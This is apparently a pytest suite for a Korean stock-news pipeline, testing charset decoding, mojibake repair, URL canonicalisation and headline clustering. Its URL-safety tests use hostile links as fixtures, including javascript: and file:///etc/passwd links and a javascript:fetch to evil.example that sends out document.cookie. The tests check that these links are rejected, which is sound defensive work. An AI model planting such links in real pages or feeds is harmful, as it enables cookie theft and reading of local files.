"""Encodings, mojibake, canonical URLs and story clustering."""

import json
from datetime import UTC, datetime, timedelta

import pytest

from azak_pipelines.lib.news import jsonl, rss, text
from azak_pipelines.lib.news.articles import RawItem, build_articles, news_id
from azak_pipelines.lib.news.dedup import Headline, cluster_headlines
from azak_pipelines.lib.news.text import UndecodableText, clean, clean_or_reason, decode, repair
from azak_pipelines.lib.news.urls import _CANONICAL, UnsafeUrl, canonical_url, rebuilt_url

T0 = datetime(2025, 6, 2, 1, 0, tzinfo=UTC)


def test_cp949_extended_hangul_decodes_where_strict_euc_kr_fails():
    data = "<meta charset='euc-kr'>똠방각하 뷁 삼성전자".encode("cp949")
    with pytest.raises(UnicodeDecodeError):
        data.decode("euc-kr")
    text, charset = decode(data)
    assert "똠방각하 뷁" in text and charset == "cp949"


def test_a_page_resaved_as_utf8_with_an_old_euc_kr_meta_is_read_as_utf8():
    text, charset = decode("<meta charset='euc-kr'>삼성전자".encode())
    assert text.endswith("삼성전자") and charset == "utf-8"


def test_bytes_valid_in_no_charset_are_an_error_not_a_lossy_decode():
    with pytest.raises(UndecodableText):
        decode(b"\xff\xfe\xfa\xfb\x80\x81")


def test_double_encoded_titles_are_repaired():
    assert repair("삼성전자 주가".encode().decode("latin-1")) == "삼성전자 주가"
    cleaned, problem = clean_or_reason("SK하이닉스 급등".encode().decode("latin-1"))
    assert (cleaned, problem) == ("SK하이닉스 급등", None)


def test_unrepairable_text_gets_a_reason():
    _, problem = clean_or_reason("삼성\ufffd\ufffd 급등")
    assert problem and "U+FFFD" in problem
    stripped = "SK하이닉스 급등".encode().decode("latin-1")
    stripped = "".join(c for c in stripped if not "\x80" <= c <= "\x9f")  # C1 bytes already lost
    _, problem = clean_or_reason(stripped)
    assert problem and ("mojibake" in problem or "wrong charset" in problem)


def test_the_plain_text_shortcut_skips_only_characters_the_full_check_accepts():
    # mojibake_reason answers "nothing wrong" for text made only of _PLAIN's characters without
    # looking further: each of them alone must pass the full check, and none may start a Latin-1
    # mojibake pair or count as an accented Latin letter
    plain = [chr(c) for c in range(0x110000) if text._PLAIN.fullmatch(chr(c))]
    assert len(plain) > 30_000 and "삼" in plain and "\ufffd" not in plain
    assert [c for c in plain if text._broken_reason(c) or "\u00c0" <= c <= "\u00ff"] == []
    assert text.mojibake_reason("삼성전자 주가 3.5% 상승…외국인 순매수 [특징주] “HBM” ▲2%") is None
    assert text.mojibake_reason("삼성\ufffd 급등") and text.mojibake_reason("삼성\ue000 급등")


def test_clean_normalises_entities_nfc_controls_and_spaces():
    decomposed = "\u1109\u1161\u11b7\u1109\u1165\u11bc"  # 삼성 as conjoining jamo (NFD)
    assert clean(f"  {decomposed}&amp;&hellip;\x07\n 전자  ") == "삼성&… 전자"


def test_canonical_urls():
    assert canonical_url("/item/news_read.naver?article_id=0012076855&office_id=056&code=005930&page=&sm=",
                         "https://finance.naver.com") == "https://n.news.naver.com/mnews/article/056/0012076855"
    assert canonical_url("https://n.news.naver.com/mnews/article/056/0012076855?sid=101") == \
        "https://n.news.naver.com/mnews/article/056/0012076855"
    assert canonical_url("HTTPS://WWW.Example.com/a/b/?utm_source=x&id=3#top") == "https://www.example.com/a/b?id=3"


def test_already_canonical_urls_skip_the_rebuild_and_come_back_as_the_rules_give_them():
    plain = ["https://news.azak-scale.example/articles/1", "http://a.b-c.kr:8080/x/y.html",
             "https://www.hankyung.com/article/2025060212345", "https://x.kr/%EC%82%BC/(1);a=b,c@d~e"]
    for url in plain:
        assert _CANONICAL.fullmatch(url) and canonical_url(url) == rebuilt_url(url) == url
    rebuilt = ["https://x.kr/a/", "https://x.kr", "https://X.kr/a", "https://x.kr/a?b=1", "https://x.kr/a#f",
               "https://x.kr//a", "https://finance.naver.com/item/news_read.naver/article/056/0012076855",
               "https://n.news.naver.com/mnews/article/056/0012076855"]
    for url in rebuilt:
        assert not (_CANONICAL.fullmatch(url) and "naver.com" not in url)
        assert canonical_url(url) == rebuilt_url(url)
    with pytest.raises(UnsafeUrl):
        canonical_url("javascript://x.kr/a")


def test_near_duplicates_cluster_and_keep_every_item():
    titles = ["[특징주] 한화오션, 함정 정비 계약에 5.8% 급등", "한화오션, 함정 정비 계약에 5.8% 급등",
              "한화오션 함정 정비 계약에 5.8% 급등 눈길", "삼성전자, HBM 공급 기대에 3.1% 강세"]
    clusters = cluster_headlines([Headline(str(i), t, T0 + timedelta(minutes=i)) for i, t in enumerate(titles)])
    assert {clusters[k].cluster_key for k in "012"} == {"0"} and clusters["0"].is_canonical
    assert clusters["1"].size == 3 and not clusters["1"].is_canonical
    assert clusters["3"].cluster_key == "3" and clusters["3"].size == 1


def test_different_figures_are_different_stories():
    clusters = cluster_headlines([Headline("a", "삼성전자, 3분기 영업이익 10조원 돌파", T0),
                                  Headline("b", "삼성전자, 2분기 영업이익 10조원 돌파", T0)])
    assert clusters["a"].cluster_key != clusters["b"].cluster_key


def test_the_same_headline_days_apart_is_a_new_story():
    clusters = cluster_headlines([Headline("a", "코스피 외국인 순매수 지속", T0),
                                  Headline("b", "코스피 외국인 순매수 지속", T0 + timedelta(days=5))])
    assert clusters["a"].cluster_key != clusters["b"].cluster_key


def raw(key: str, title: str, url: str, source: str, minutes: int = 0, kind: str = "news",
        hint: str | None = None) -> RawItem:
    at = T0 + timedelta(minutes=minutes)
    return RawItem(key, at, "minute", title, "", url, "p", source, kind, hint, at)


def test_articles_merge_exact_duplicates_and_never_cluster_disclosures():
    items = [
        raw("naver:1:2", "KB금융 자사주 소각", "https://n.news.naver.com/mnews/article/1/2", "naver_finance", 5,
            hint="105560"),
        raw("naver:1:2", "KB금융 자사주 소각", "https://n.news.naver.com/mnews/article/1/2", "naver_finance", 0),
        raw("dart:1", "분기보고서 (2025.03)", "https://dart.fss.or.kr/a", "dart", kind="disclosure"),
        raw("dart:2", "분기보고서 (2025.03)", "https://dart.fss.or.kr/b", "dart", kind="disclosure"),
    ]
    articles = {a.url: a for a in build_articles(items)}
    assert len(articles) == 3
    kb = articles["https://n.news.naver.com/mnews/article/1/2"]
    assert kb.published_at == T0 and kb.stock_code_hints == ["105560"]
    assert kb.news_id == news_id(kb.url) and kb.news_id > 0
    assert articles["https://dart.fss.or.kr/a"].cluster_size == 1
    assert articles["https://dart.fss.or.kr/a"].cluster_id != articles["https://dart.fss.or.kr/b"].cluster_id


def test_clustering_is_deterministic():
    items = [raw(f"k{i}", t, f"https://x/{i}", "hankyung", i) for i, t in
             enumerate(["A사 수주 소식에 급등", "[속보] A사 수주 소식에 급등", "B사 하락"])]
    first = sorted((a.url, a.cluster_id) for a in build_articles(items))
    second = sorted((a.url, a.cluster_id) for a in build_articles(list(reversed(items))))
    assert first == second


@pytest.mark.parametrize("link", ["javascript:alert(document.cookie)", " JavaScript:alert(1)",
                                  "data:text/html,<b>x</b>", "file:///etc/passwd", "vbscript:msgbox(1)",
                                  "https:///no-host", "//cdn.example/x"])
def test_only_http_links_become_canonical_urls(link):
    with pytest.raises(UnsafeUrl, match="not an http"):
        canonical_url(link)


def test_every_source_rejects_a_link_that_is_not_http(tmp_path):
    """A feed and an imported file each carry a ``javascript:`` link: that row is rejected with
    the reason, the good rows are kept (Naver links are rebuilt from their ids, DART's and
    Reddit's from fixed https prefixes)."""
    feed = b"""<?xml version="1.0" encoding="UTF-8"?><rss><channel>
      <item><title>good</title><link>https://www.hankyung.com/article/1</link>
            <pubDate>Mon, 02 Jun 2025 09:00:00 +0900</pubDate></item>
      <item><title>bad</title><link>javascript:alert(1)</link>
            <pubDate>Mon, 02 Jun 2025 09:00:00 +0900</pubDate></item></channel></rss>"""
    parsed = rss.parse_feed(feed, "hankyung", "한국경제", datetime(2025, 6, 2, tzinfo=UTC))
    assert [i.url for i in parsed.items] == ["https://www.hankyung.com/article/1"]
    [rejected] = parsed.rejected
    assert rejected.reason == "the link is not an http(s) address with a host: 'javascript:alert(1)'"

    lines = [{"title": "좋은 기사", "source": "vendor", "published_at": "2025-06-02T09:00:00+09:00",
              "url": "https://example.com/a"},
             {"title": "나쁜 기사", "source": "vendor", "published_at": "2025-06-02T09:00:00+09:00",
              "url": "javascript:fetch('//evil.example/'+document.cookie)"}]
    path = tmp_path / "news.jsonl"
    path.write_text("\n".join(json.dumps(line, ensure_ascii=False) for line in lines) + "\n")
    imported = jsonl.read_news_file(path)
    assert [i.url for i in imported.items] == ["https://example.com/a"]
    assert len(imported.rejected) == 1 and "not an http(s) address" in imported.rejected[0].reason
